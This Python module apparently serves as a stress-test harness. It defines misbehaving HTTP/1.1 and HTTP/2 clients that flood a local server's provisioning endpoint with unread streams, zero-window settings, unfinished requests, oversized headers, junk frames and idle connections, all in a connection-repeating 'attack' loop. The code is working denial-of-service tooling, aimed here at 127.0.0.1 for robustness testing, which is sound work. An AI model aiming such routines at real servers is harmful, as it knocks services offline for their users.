# SPDX-License-Identifier: Apache-2.0
"""Peers of an HTTP server that keep to no rule, as functions of a connected socket and the number of the turn."""
import json
import socket
import struct
import time

BULK = "/msgin5g-provisioning/v1/bulk"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def field(name, value):
    """A literal field without a table (RFC 7541 6.2.2)."""
    def text(octets):
        return bytes([len(octets)]) + octets
    return b"\0" + text(name) + text(value)


PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
NO_WINDOW = frame(4, 0, 0, struct.pack(">HI", 4, 0))
HEADER = b"\x83\x86" + field(b":path", BULK.encode()) + field(b":authority", b"x") + field(
    b"content-type", b"application/json")
BODY = json.dumps({"requests": [{"ueType": "NON_3GPP", "privateId": f"w{i}"} for i in range(256)]}).encode()


def unread_streams(peer, turn):
    if turn == 0:
        peer.sendall(PREFACE + NO_WINDOW)
    stream = 1 + 2 * turn
    peer.sendall(frame(1, 4, stream, HEADER) + frame(0, 0, stream, BODY[:8000]) + frame(0, 1, stream, BODY[8000:]))


def unread_answers(peer, turn):
    peer.sendall(b"POST %s HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ncontent-length: %d\r\n\r\n%s" %
                 (BULK.encode(), len(BODY), BODY))


def endless_requests(peer, turn):
    if turn == 0:
        peer.sendall(PREFACE + frame(4, 0, 0))
    peer.sendall(frame(1, 4, 1 + 2 * turn, HEADER) + frame(0, 0, 1 + 2 * turn, BODY[:8000]))


def long_headers(peer, turn):
    peer.sendall(b"GET / HTTP/1.1\r\nhost: x\r\n" + b"a: %s\r\n" % (b"a" * 100) * 100 if turn == 0 else b"b: c\r\n")


def useless_frames(peer, turn):
    if turn == 0:
        peer.sendall(PREFACE + frame(4, 0, 0))
    peer.sendall((frame(6, 0, 0, b"12345678") + frame(2, 0, 3, b"\0\0\0\0\1") + frame(0xfa, 0, 0)) * 20)


def idle(peer, turn):
    if turn == 0:
        peer.sendall(PREFACE + frame(4, 0, 0))


ATTACKS = [unread_streams, unread_answers, endless_requests, long_headers, useless_frames, idle]


def attack(function, port, end, connections, source=""):
    """Connects so many times, from `source`, and attacks, over and over, until time.monotonic() is `end`."""
    while time.monotonic() < end:
        peers = []
        for _ in range(connections):
            try:
                peers.append(socket.create_connection(("127.0.0.1", port), 1, (source, 0)))
                peers[-1].settimeout(0.05)
            except OSError:
                break
        for turn in range(60):
            for peer in list(peers):
                try:
                    function(peer, turn)
                except OSError:
                    peer.close()
                    peers.remove(peer)
            if time.monotonic() > end:
                break
        for peer in peers:
            peer.close()
